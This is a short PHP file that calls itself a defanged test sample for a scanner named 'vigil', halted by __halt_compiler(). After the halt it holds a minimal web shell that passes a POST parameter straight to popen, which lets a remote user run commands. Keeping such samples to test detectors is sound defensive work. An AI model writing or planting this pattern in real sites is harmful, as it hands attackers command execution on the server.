<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
class Sh {
	function go($w) { return popen($w, 'r'); }
}
$o = new Sh();
$o->go($_POST['w']);
